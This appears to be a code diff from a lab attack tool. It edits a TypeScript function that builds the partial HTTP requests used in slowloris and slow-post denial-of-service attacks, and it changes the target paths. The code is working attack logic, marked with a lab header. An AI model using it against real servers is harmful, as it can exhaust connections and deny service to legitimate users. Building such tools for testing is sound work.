@@ -50,7 +50,7 @@ export function startSlowAttack(o: {
     let drip: NodeJS.Timeout | undefined;
     sock.on('connect', () => {
       s.opened++;
-      const head = `${o.kind === 'slow-post' ? 'POST /api/contact' : 'GET /statut'} HTTP/1.1\r\nHost: ${o.host}\r\nUser-Agent: Mozilla/5.0\r\nx-lab-attack: 1\r\n`;
+      const head = `${o.kind === 'slow-post' ? 'POST /api/accounts' : 'GET /status'} HTTP/1.1\r\nHost: ${o.host}\r\nUser-Agent: Mozilla/5.0\r\nx-lab-attack: 1\r\n`;
       if (o.kind === 'slowloris') sock.write(head);
       else if (o.kind === 'slow-post')
         sock.write(`${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n`);
